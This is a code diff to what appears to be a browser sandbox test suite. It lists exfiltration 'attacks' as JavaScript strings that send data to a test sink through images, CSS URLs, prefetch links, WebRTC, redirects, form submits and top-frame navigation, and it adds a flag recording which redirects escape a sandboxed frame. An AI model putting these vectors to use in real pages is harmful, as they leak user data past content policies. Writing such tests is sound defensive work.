@@ -34,7 +34,7 @@ export const attacks: ReadonlyArray<Attack> = [
   request("image", `new Image().src = sink + name`),
   request(
     "css-url",
-    `const d = document.createElement("div"); d.style.cssText = "background: url(" + sink + name + "); width: 9px; height: 9px"; document.body.append(d); await new Promise((r) => setTimeout(r, 300))`
+    `const d = document.createElement("div"); d.style.cssText = "background: url(" + sink + name + "); width: 9px; height: 9px"; document.body.append(d)`
   ),
   request("stylesheet", link("stylesheet")),
   request("prefetch", link("prefetch")),
@@ -103,25 +103,36 @@ export const consented: ReadonlyArray<Attack> = [
 /** Seen by packets: browsers hold them against no policy, which is why a component has no document. */
 export const webRtc = `const c = new RTCPeerConnection({ iceServers: [{ urls: stun }] }); c.createDataChannel("x"); await c.setLocalDescription(await c.createOffer())`
 
+/** An attack that sends a document elsewhere. */
+interface Departure extends Attack {
+  /** Whether a sandboxed frame leaves its place by it: its policy lets it get nowhere, and shows an error there. */
+  readonly leaves: boolean
+}
+
+const departure = (leaves: boolean, name: string, code: string): Departure => ({ ...request(name, code), leaves })
+
 /** Those that send the document elsewhere. */
-export const departures: ReadonlyArray<Attack> = [
-  request("location", `location.href = sink + name`),
-  request("replace", `location.replace(sink + name)`),
-  request("window-self", `open(sink + name, "_self")`),
-  request(
+export const departures: ReadonlyArray<Departure> = [
+  departure(true, "location", `location.href = sink + name`),
+  departure(true, "replace", `location.replace(sink + name)`),
+  departure(true, "window-self", `open(sink + name, "_self")`),
+  departure(
+    true,
     "refresh",
     `const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0; url=" + sink + name; document.head.append(m)`
   ),
-  request(
+  departure(
+    false,
     "own-form",
     `const f = document.createElement("form"); f.action = sink + name; document.body.append(f); f.submit()`
   ),
-  request(
+  departure(
+    true,
     "own-anchor",
     `const a = document.createElement("a"); a.href = sink + name; document.body.append(a); a.click()`
   ),
-  request("top-location", `top.location.href = sink + name`),
-  request("top-window", `open(sink + name, "_top")`)
+  departure(false, "top-location", `top.location.href = sink + name`),
+  departure(false, "top-window", `open(sink + name, "_top")`)
 ]
 
 /** The source of a function that runs attacks and resolves to the names of those whose result was theirs. */
@@ -134,6 +145,8 @@ export const running = (list: ReadonlyArray<Attack>, sink: string, stun: string)
   }))
   return did
 })()`
+
+export type Sink = Awaited<ReturnType<typeof makeSink>>
 
 /** What stands outside: whatever comes here came out. */
 export const makeSink = async () => {
